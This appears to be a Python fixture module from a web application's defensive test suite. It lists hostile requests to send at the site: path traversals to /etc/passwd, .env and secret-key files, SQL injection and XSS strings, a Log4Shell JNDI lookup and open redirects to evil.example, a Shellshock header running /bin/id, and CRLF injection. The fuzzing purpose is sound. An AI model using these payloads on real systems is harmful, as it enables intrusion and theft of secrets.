"""Addresses, ids, methods, hosts and headers that scanners and worse ask with.

Knows attacks. Must not know what the site answers, but that it is never a fault of its own.
"""

from __future__ import annotations

from urllib.parse import quote

EVIL = "evil.example"
SOME_ID = "00000000-0000-4000-8000-000000000000"

TRAVERSALS = tuple(
    f"{start}{dots}{target}"
    for start in ("/", "/static/", "/static/js/", "/artifacts/", "/c/", "/admin/")
    for dots in (
        "../../../",
        "..%2f..%2f..%2f",
        "%2e%2e/%2e%2e/",
        "..%252f..%252f",
        "..\\..\\",
        "%c0%ae%c0%ae/",
        "....//",
    )
    for target in ("etc/passwd", ".env", "agentsite/settings.py", "var/secret_key", "var/db.sqlite3")
)
ODD_PATHS = (
    *(
        "/%00",
        "/c/%00/",
        "/%ff%fe",
        "/c/\xff\xfe/",
        "/%",
        "/%zz",
        "/?%",
        "/?=&=&",
        "/#x",
        "/;x=1",
        "//",
        "///",
        "/./.",
        "/\\",
    ),
    *(
        f"//{EVIL}/",
        f"/\\{EVIL}/",
        f"/%5c{EVIL}",
        f"/%2f%2f{EVIL}",
        f"http://{EVIL}/",
        f"http://{EVIL}/accounts/login/",
    ),
    *(
        "/accounts/login",
        "/admin",
        f"/accounts/login/?next=//{EVIL}",
        f"/admin/login/?next=https://{EVIL}/",
        "/c",
        "/ws/",
    ),
    *("/.git/config", "/.env", "/wp-login.php", "/server-status", "/actuator/env", "/phpmyadmin/", "/cgi-bin/test.cgi"),
    *("/%0d%0aSet-Cookie:x=1", "/accounts/login/?next=/%0d%0aSet-Cookie:x=1", "/${jndi:ldap://evil.example/x}"),
    *(
        "/" + "a" * 1_000,
        "/" + "a" * 8_000,
        "/" + "a" * 60_000,
        "/?" + "a" * 60_000,
        "/" + "a/" * 4_000,
        "/" + "%41" * 2_000,
    ),
)
IDS = (
    *(
        "1",
        "-1",
        "0",
        "1'",
        "1' OR '1'='1",
        "1;DROP TABLE chat_event",
        SOME_ID,
        SOME_ID.upper(),
        f"{SOME_ID}'--",
        "null",
    ),
    *("{{7*7}}", "<script>alert(1)</script>", "\0", "٣", "../x", "1e99", "9" * 400, "%s%n", "' UNION SELECT 1--"),
)
PLACES = (
    "/c/{}/",
    "/c/{}/export.json",
    "/c/{}/older/?before=1",
    "/artifacts/{}/",
    "/admin/chat/conversation/{}/change/",
)
# The admin's, for a member of staff: {} is a conversation.
MOMENTS = (
    "0",
    "-1",
    "1",
    "2",
    "3",
    "1.5",
    "1e9",
    "x",
    "",
    "'",
    "\0",
    "٣",
    "9" * 30,
    "9" * 4_400,
    "1;2",
    "NaN",
    "+1",
    " 1 ",
    "0x1",
)
ADMIN = (
    *(f"/admin/chat/conversation/{{}}/at/?at={quote(moment)}" for moment in MOMENTS),
    "/admin/chat/conversation/{}/at/?at=1&at=2&seq=3",
    *(
        f"/admin/chat/{table}/?{query}"
        for table in ("conversation", "toolcall", "event", "review", "accesstrace")
        for query in (
            *("p=0", "p=-1", "p=x", "p=99999999999999999999", "o=1.2.-3.99", "o=x", "q=%00", "q=%ff", "all=", "e=1"),
            *(
                "phase=%00",
                "phase=nowhere",
                "review=x",
                "failed=maybe",
                "owner='",
                "state=%ff",
                "pending=x",
                "in=x&q=x",
            ),
            *("active_at__year=x", "active_at__year=99999999999", "active_at__year=0", "active_at__month=13"),
            *("user__password__startswith=p", "id__regex=(a%2B)%2B$", "pk__in=1,2,x", "_popup=1", "_to_field=password"),
            "q=" + "a" * 5_000,
        )
    ),
    *(
        "/admin/jsi18n/",
        "/admin/r/1/x/",
        "/admin/r/999999/1/",
        "/admin/autocomplete/",
        "/admin/chat/event/add/",
        "/admin/x/",
    ),
    *(f"/search/?q={quote(text)}" for text in ("%", "_", "\\", "'", "\0", "a" * 5_000, "٣", "<script>", '"OR"', "(")),
)
METHODS = (
    "TRACE",
    "TRACK",
    "PROPFIND",
    "DEBUG",
    "CONNECT",
    "OPTIONS",
    "PUT",
    "PATCH",
    "DELETE",
    "get",
    "G" * 2_000,
    "G\x00T",
)
HOSTS = (
    EVIL,
    "",
    "a b",
    "[::1",
    "127.0.0.1:99999999",
    "127.0.0.1:x",
    f"127.0.0.1@{EVIL}",
    "\xff",
    "127.0.0.1,evil.example",
    "a" * 5_000,
)
HEADERS = (
    *(
        "X-Long: " + "a" * 8_000,
        "X-Long: " + "a" * 60_000,
        "Cookie: sessionid=" + "a" * 30_000,
        "Cookie: ;;;=;sessionid",
    ),
    *(
        "Cookie: sessionid=' OR 1=1--",
        "Cookie: sessionid=\xff\xfe",
        "Cookie: sessionid=../../x",
        "Cookie: csrftoken=\x01",
    ),
    *(
        "Accept-Language: " + "x," * 2_000,
        "Accept-Language: ../../etc",
        "Accept-Encoding: \xff",
        "Accept: " + "*/*," * 2_000,
    ),
    *(
        "X-Forwarded-For: '",
        "X-Forwarded-For: " + "1.2.3.4," * 1_000,
        "X-Forwarded-Proto: \xff",
        "X-Forwarded-Host: " + EVIL,
    ),
    *(
        "Range: bytes=9-1",
        "Range: bytes=-1",
        "Range: x",
        "Range: bytes=" + "0-0," * 1_000,
        "If-Modified-Since: x",
        "If-None-Match: *",
    ),
    *(
        "Authorization: Basic \xff",
        "Referer: \xff",
        "User-Agent: () { :;}; /bin/id",
        "HX-Request: x",
        "X-CSRFToken: " + "x" * 5_000,
    ),
    *(
        "X-Original-URL: /admin/",
        "X-Rewrite-URL: /admin/",
        "X-HTTP-Method-Override: DELETE",
        "Upgrade: h2c",
        "Expect: x",
    ),
)
